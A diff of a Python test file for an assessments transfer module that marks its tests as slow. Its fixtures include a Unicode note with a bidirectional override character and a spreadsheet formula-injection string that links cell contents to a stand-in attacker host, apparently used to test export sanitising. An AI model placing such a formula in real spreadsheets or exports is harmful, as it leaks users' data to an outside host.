@@ -21,6 +21,9 @@ from assessments.transfer import (
     spreadsheet_safe,
 )
 
+# Each test builds whole assessments and moves them out and back in: beyond the quick run.
+pytestmark = pytest.mark.slow
+
 UNICODE_NOTE = "Évaluation du shérif — 証拠は記録課に保管 ✓; «مرحبا» \u202eRTL\u202c; emoji 🚓"
 FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
